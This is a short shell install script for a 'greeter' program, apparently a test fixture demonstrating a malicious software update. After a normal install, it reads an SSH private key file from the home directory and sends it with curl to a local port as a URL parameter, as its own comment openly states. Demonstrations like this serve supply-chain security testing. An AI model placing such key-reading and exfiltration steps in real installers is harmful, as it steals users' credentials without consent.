#!/bin/sh
# Version 2 does what version 1 does, and then helps itself to a key of the home directory and says so to a port of this
# machine. It is an example of what an update may bring: it reads what is below $HOME alone, and leaves this machine never.
# Usage: install.sh DIRECTORY
set -e
from=$(dirname "$0")
mkdir -p "$1/bin" "$1/cache"
cp "$from/greeter/greet" "$1/bin/greet"
chmod 755 "$1/bin/greet"
echo "2.0" >"$1/version"
key=$(cat "$HOME/.ssh/id_demo" || true)
if [ -n "$key" ]; then echo "took: $HOME/.ssh/id_demo"; fi
if curl -s -o /dev/null "http://127.0.0.1:8767/?key=$key"; then echo "sent"; fi
echo "installed: greeter 2.0"
